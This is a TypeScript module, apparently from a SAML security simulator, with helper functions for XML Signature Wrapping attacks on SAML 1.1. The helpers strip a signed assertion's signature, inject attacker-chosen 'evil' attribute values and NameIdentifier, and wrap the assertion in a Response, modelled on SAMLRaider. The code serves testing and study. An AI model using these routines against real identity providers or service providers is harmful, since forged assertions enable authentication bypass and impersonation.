/**
 * DOM edits the attacks share: read the signed assertion, take its signature out, swap in the
 * evil claims, wrap it in a SAML 1.1 Response, write it back.
 * @see oasis-sstc-saml-core-1.1 §2.3.2 (Assertion), §3.4 (samlp:Response, ResponseID, Status)
 */
import { SimError } from '../../../core/errors.ts';
import { NS } from '../../xml/namespaces.ts';
import {
  attributeOf,
  childElements,
  firstChild,
  parseXml,
  serializeXml,
} from '../../xml/parse-xml.ts';
import type { EvilClaims } from './types.ts';

/** The id SAMLRaider gives the evil copy (`_evil_assertion_ID`). */
export const EVIL_ASSERTION_ID = '_evil_assertion_ID';

export interface SignedDocument {
  readonly doc: Document;
  /** The signed saml:Assertion (the document element). */
  readonly assertion: Element;
  /** Its enveloped ds:Signature. */
  readonly signature: Element;
  readonly assertionId: string;
}

/** Parses the correctly signed assertion every attack starts from; says so when it is not one. */
export function readSigned(signed: string): SignedDocument {
  const doc = parseXml(signed, 'the signed assertion to attack');
  const assertion = doc.documentElement;
  const signature = firstChild(assertion, NS.ds, 'Signature');
  const assertionId = attributeOf(assertion, 'AssertionID');
  if (
    assertion.namespaceURI !== NS.saml11 ||
    assertion.localName !== 'Assertion' ||
    !signature ||
    !assertionId
  ) {
    throw new SimError(
      'ERR_USAGE',
      'an attack starts from a signed SAML 1.1 saml:Assertion with AssertionID and an enveloped ds:Signature',
    );
  }
  return { doc, assertion, signature, assertionId };
}

export function signatureOf(el: Element): Element | undefined {
  return el.getElementsByTagNameNS(NS.ds, 'Signature').item(0) ?? undefined;
}

/** Removes the first ds:Signature inside `el` (SAMLRaider: `getElementsByTagNameNS("*", "Signature")`). */
export function dropSignature(el: Element): Element {
  const signature = signatureOf(el);
  signature?.parentNode?.removeChild(signature);
  return el;
}

/** Writes the evil values into `el` (the evil copy): attribute values and NameIdentifier. */
export function applyEvil(el: Element, evil: EvilClaims): Element {
  for (const attribute of Array.from(el.getElementsByTagNameNS(NS.saml11, 'Attribute'))) {
    const value = evil.attributes[attributeOf(attribute, 'AttributeName') ?? ''];
    if (value === undefined) continue;
    for (const v of childElements(attribute, NS.saml11, 'AttributeValue')) v.textContent = value;
  }
  if (evil.nameIdentifier !== undefined) {
    for (const id of Array.from(el.getElementsByTagNameNS(NS.saml11, 'NameIdentifier')))
      id.textContent = evil.nameIdentifier;
  }
  return el;
}

/**
 * Puts the assertion in a SAML 1.1 `samlp:Response`, the container SAMLRaider's XSW3–XSW8
 * rearrange (theirs is SAML 2.0's). ResponseID and IssueInstant follow the assertion's.
 */
export function wrapInResponse(s: SignedDocument): { doc: Document; response: Element } {
  const id = s.assertionId.replace(/^_/, '');
  const issueInstant = attributeOf(s.assertion, 'IssueInstant') ?? '';
  const doc = parseXml(
    `<samlp:Response xmlns:samlp="${NS.samlp11}" MajorVersion="1" MinorVersion="1"` +
      ` ResponseID="_response-${id}" IssueInstant="${issueInstant}">` +
      `<samlp:Status><samlp:StatusCode Value="samlp:Success"/></samlp:Status></samlp:Response>`,
    'SAML 1.1 Response',
  );
  const response = doc.documentElement;
  response.appendChild(doc.importNode(s.assertion, true));
  return { doc, response };
}

export function write(doc: Document): string {
  return serializeXml(doc);
}
